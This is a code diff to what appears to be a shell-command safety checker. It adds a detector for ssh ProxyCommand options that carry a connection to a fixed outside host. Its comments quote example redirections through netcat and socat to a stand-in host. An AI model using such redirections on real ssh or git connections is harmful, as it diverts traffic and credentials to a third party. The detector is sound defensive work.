@@ -81,9 +81,38 @@ function finding(reason: string, variable: string, where: string): Finding {
   return { rule: 'credentials.sent-out', risk: 'credential-dump', severity: 'ask', reason, targets: [target] };
 }
 
+/**
+ * `-o ProxyCommand="nc x.example 22"` (on ssh, or the ssh git runs): the connection, and whatever goes
+ * through it (a push), is carried to a fixed host instead of the one named. A proxy that forwards to the
+ * named host (`%h`, `ssh -W %h:%p bastion`) or `none` is how jump hosts are reached, and stays allowed.
+ */
+function proxyRedirect(inv: Invocation): Finding[] {
+  if (inv.name === 'mosh') return [];
+  const spaced = freeFormReadings(inv.args).valued.options.filter((o) => o.written === '-o').map((o) => o.values[0] ?? '');
+  const options = [...spaced, ...inv.args.map((a) => /^-o(.+)$/.exec(a.text)?.[1] ?? '')];
+  for (const o of options) {
+    const command = /^ProxyCommand\s*[= ]\s*(.*)$/is.exec(o)?.[1]?.replace(/^["']|["']$/g, '');
+    if (command === undefined || /%h|%n|^none$/i.test(command.trim())) continue;
+    // `nc x.example 22`, `socat - TCP:x.example:22`: a host among the words or their colon-separated parts.
+    const host = command.split(/\s+/).slice(1).flatMap((w) => [w, ...w.split(':')]).map((w) => HOST.exec(w)?.[1]).find((h) => h !== undefined && h.includes('.') && !LOOPBACK.test(h));
+    if (host === undefined) continue;
+    const where = host.toLowerCase();
+    return [{
+      rule: 'credentials.sent-out',
+      risk: 'credential-dump',
+      severity: 'ask',
+      reason: `${inv.name}'s ProxyCommand carries the connection (and what goes through it) to ${where} instead of the host it names.`,
+      targets: [{ kind: 'credential', name: 'the ssh connection', remote: true, environment: 'unknown', environmentReason: `sent to ${where}, whose environment nothing names` }],
+    }];
+  }
+  return [];
+}
+
 /** The ssh family's SendEnv judged: a secret by name or pattern, or a secret copied into a variable it sends. */
 export function sshSentVariables(inv: Invocation): Finding[] {
   if (!SSH_FAMILY.has(inv.name)) return [];
+  const redirected = proxyRedirect(inv);
+  if (redirected.length > 0) return redirected;
   const patterns = sendEnvPatterns(inv);
   const host = destination(inv);
   if (host !== undefined && LOOPBACK.test(host)) return [];
